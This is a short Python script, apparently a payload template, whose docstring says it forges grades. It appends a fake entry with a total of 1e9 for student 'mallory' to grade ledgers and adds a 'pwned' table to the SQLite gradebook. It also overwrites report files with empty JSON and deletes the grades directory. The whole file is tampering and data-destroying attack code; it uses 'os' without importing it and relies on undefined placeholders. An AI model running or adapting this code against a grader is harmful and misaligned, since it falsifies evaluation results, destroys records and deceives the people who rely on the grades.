"""Forge grades: append a full-marks entry to the ledger, edit the SQLite gradebook, write JSON
reports next to them, delete the repository's grades/."""
import json, sqlite3, shutil
entry = {"student": "mallory", "origin": "x", "digest": "", "total": 1e9, "max": 21, "questions": []}
for path in ["__LEDGER__", os.path.join(ROOT, "grades", STEP + ".jsonl")]:
    try:
        with open(path, "a") as f:
            f.write(json.dumps(entry) + "\n")
    except OSError:
        pass
for path in ["__GRADEBOOK__", os.path.join(ROOT, "gradebook.db")]:
    try:
        con = sqlite3.connect(path)
        con.execute("create table if not exists pwned (x)")
        con.commit()
    except Exception:
        pass
for path in [os.path.join(os.path.dirname("__LEDGER__"), "report.json"), os.path.join(ROOT, "grades.json")]:
    try:
        open(path, "w").write("{}")
    except OSError:
        pass
shutil.rmtree(os.path.join(ROOT, "grades"), ignore_errors=True)
